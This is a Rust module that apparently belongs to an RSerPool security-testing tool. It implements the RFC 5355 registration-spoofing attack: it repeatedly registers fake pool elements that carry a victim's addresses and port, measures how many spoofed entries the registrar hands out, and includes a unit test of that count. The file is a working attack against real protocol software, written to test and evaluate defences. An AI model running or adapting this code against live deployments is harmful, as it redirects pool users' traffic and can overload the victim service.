//! `reg-spoof` (RFC 5355 §2.3): registrations of PEs with fresh
//! identifiers that carry a victim PE's user transport (its addresses and
//! port), so that pool users that pick them connect to the victim. RSPLIB
//! keeps only the registered addresses that are peer addresses of the
//! registering association (`-minaddressscope`); `--bind` registers from
//! one local address only. Every sample interval the attacker resolves
//! the pool and counts the spoofed PEs the registrar hands out.

use std::collections::BTreeSet;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;
use client_core::policy::Rng;
use client_core::wire::{PoolElement, PoolElementId, PoolHandle};
use rserpool_sctp::SctpAssociation;

use super::registering::{spawn_registrar_reader, Tally};
use super::{fresh_pe_id, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints (registrations go to them in turn; the
    /// first one is resolved for the victim and the samples).
    #[command(flatten)]
    pub common: Common,
    /// The victim PE (hex 0x… or decimal). Default: one of the pool's,
    /// chosen by the seed.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_id: Option<u32>,
    /// Register from this local address only (the registrar then sees
    /// just it as the association's peer address).
    #[arg(long, value_name = "IP")]
    pub bind: Option<IpAddr>,
    /// Interval of the attacker's sample lines (`spoofed_pes`).
    #[arg(long = "sample-ms", value_name = "MS", default_value_t = 250)]
    pub sample_ms: u64,
}

/// PEs other than the victim whose user transport reaches the victim:
/// the same port and at least one of its addresses.
pub fn spoofed_pes(listed: &[PoolElement], victim: &PoolElement) -> usize {
    let theirs: BTreeSet<IpAddr> = victim.user_transport.addresses.iter().copied().collect();
    listed
        .iter()
        .filter(|e| e.id != victim.id)
        .filter(|e| e.user_transport.port == victim.user_transport.port)
        .filter(|e| {
            e.user_transport
                .addresses
                .iter()
                .any(|a| theirs.contains(a))
        })
        .count()
}

struct RegSpoof {
    links: Vec<(Arc<SctpAssociation>, SocketAddr)>,
    pool: PoolHandle,
    victim: PoolElement,
    used: BTreeSet<u32>,
}

impl Attack for RegSpoof {
    async fn act(&mut self, seq: u64, rng: &mut Rng, _out: &Output) -> Result<Act> {
        let id = fresh_pe_id(rng, &mut self.used);
        let (assoc, target) = &self.links[(seq % self.links.len() as u64) as usize];
        let t = &self.victim.user_transport;
        let pe = messages::pool_element(
            id,
            t.addresses.clone(),
            t.port,
            self.victim.policy.clone(),
            self.victim.registration_life_ms,
        );
        net::send_asap(assoc, &messages::registration(&self.pool, pe)).await?;
        Ok((
            "register",
            fields! {
                "pe_id" => PoolElementId(id).to_string(),
                "target" => target.to_string(),
                "victim" => self.victim.id.to_string(),
                "port" => t.port,
            },
        ))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let targets = ctx.targets.clone();
    let pool = ctx.pool.clone();
    let want = a.pe_id;
    let bind = a.bind;
    let mut rng = Rng::new(ctx.rng.next_u64());
    let Some((links, looker, victim)) = ctx
        .setup(async {
            // Resolutions for the samples go on an association of their own
            // (the registration associations' answers go to their readers).
            let looker = net::connect(None, targets[0]).await?;
            let listed = net::resolve_all(&looker, &pool).await?;
            let victim = super::pick_victim(listed, want, &pool, &mut rng)?;
            let mut links = Vec::new();
            for t in &targets {
                let local = bind.map(|ip| SocketAddr::new(ip, 0));
                links.push((Arc::new(net::connect(local, *t).await?), *t));
            }
            Ok((links, looker, victim))
        })
        .await
    else {
        return Ok(());
    };
    ctx.out.event(
        "victims",
        serde_json::json!([{
            "pe_id": victim.id.to_string(),
            "port": victim.user_transport.port,
            "addresses": victim.user_transport.addresses.iter().map(|a| a.to_string()).collect::<Vec<_>>(),
        }]),
    );
    let tally = Arc::new(Tally::default());
    let readers: Vec<_> = links
        .iter()
        .map(|(assoc, _)| {
            spawn_registrar_reader(assoc.clone(), true, tally.clone(), ctx.out.clone())
        })
        .collect();
    let peak = Arc::new(AtomicU64::new(0));
    let sampler = {
        let (out, pool, victim, peak) =
            (ctx.out.clone(), pool.clone(), victim.clone(), peak.clone());
        let every = std::time::Duration::from_millis(a.sample_ms.max(crate::bounds::MIN_SAMPLE_MS));
        tokio::spawn(async move {
            let mut next = tokio::time::Instant::now() + every;
            loop {
                tokio::time::sleep_until(next).await;
                next += every;
                let n = match net::resolve_all(&looker, &pool).await {
                    Ok(listed) => spoofed_pes(&listed, &victim),
                    Err(_) => continue,
                };
                peak.fetch_max(n as u64, Ordering::Relaxed);
                out.sample(fields! {"spoofed_pes" => n});
            }
        })
    };
    let mut attack = RegSpoof {
        links,
        pool,
        victim,
        used: BTreeSet::new(),
    };
    let f = super::run_paced(&mut attack, &mut ctx, true).await;
    sampler.abort();
    for r in readers {
        r.abort();
    }
    super::done(
        &ctx,
        f,
        fields! {
            "accepted" => tally.accepted.load(Ordering::Relaxed),
            "refused" => tally.refused.load(Ordering::Relaxed),
            "spoofed_pes_max" => peak.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::SelectionPolicy;

    fn pe(id: u32, addrs: &[&str], port: u16) -> PoolElement {
        messages::pool_element(
            id,
            addrs.iter().map(|a| a.parse().unwrap()).collect(),
            port,
            SelectionPolicy::RoundRobin,
            90_000,
        )
    }

    #[test]
    fn a_pe_is_spoofed_when_it_carries_the_victims_port_and_one_of_its_addresses() {
        let victim = pe(1, &["10.1.0.1", "10.0.2.15"], 5000);
        let listed = [
            victim.clone(),
            pe(2, &["10.0.2.15"], 5000),
            pe(3, &["10.1.0.1"], 5001),
            pe(4, &["10.1.0.9"], 5000),
            pe(5, &["10.1.0.9", "10.1.0.1"], 5000),
        ];
        // The victim itself does not count; 3 has another port, 4 none of
        // its addresses.
        assert_eq!(spoofed_pes(&listed, &victim), 2);
        assert_eq!(spoofed_pes(std::slice::from_ref(&victim), &victim), 0);
    }
}
